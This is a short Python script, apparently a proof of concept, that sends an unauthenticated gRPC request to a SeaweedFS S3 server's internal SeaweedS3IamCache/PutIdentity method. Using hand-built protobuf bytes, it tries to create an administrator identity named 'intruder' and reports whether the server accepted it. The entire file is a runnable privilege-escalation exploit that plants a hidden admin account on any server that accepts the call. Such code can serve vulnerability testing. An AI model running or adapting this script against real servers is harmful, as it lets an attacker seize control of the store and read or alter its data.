"""Asks a SeaweedFS S3 server by gRPC, without a key, for something that only its own servers may have."""

import sys

import grpc


def add_administrator(address):
    """Try to give the store an administrator; return the name of gRPC's status code."""
    credential = _field(1, b"intruder") + _field(2, b"intruder")
    identity = _field(1, b"intruder") + _field(2, credential) + _field(3, b"Admin")
    with grpc.insecure_channel(address) as channel:
        try:
            channel.unary_unary("/messaging_pb.SeaweedS3IamCache/PutIdentity")(_field(1, identity), timeout=10)
        except grpc.RpcError as error:
            return error.code().name
    return "OK"


def _field(number, value):
    """A field of bytes in a protobuf message."""
    return bytes((number << 3 | 2, len(value))) + value


if __name__ == "__main__":
    print(add_administrator(sys.argv[1]))
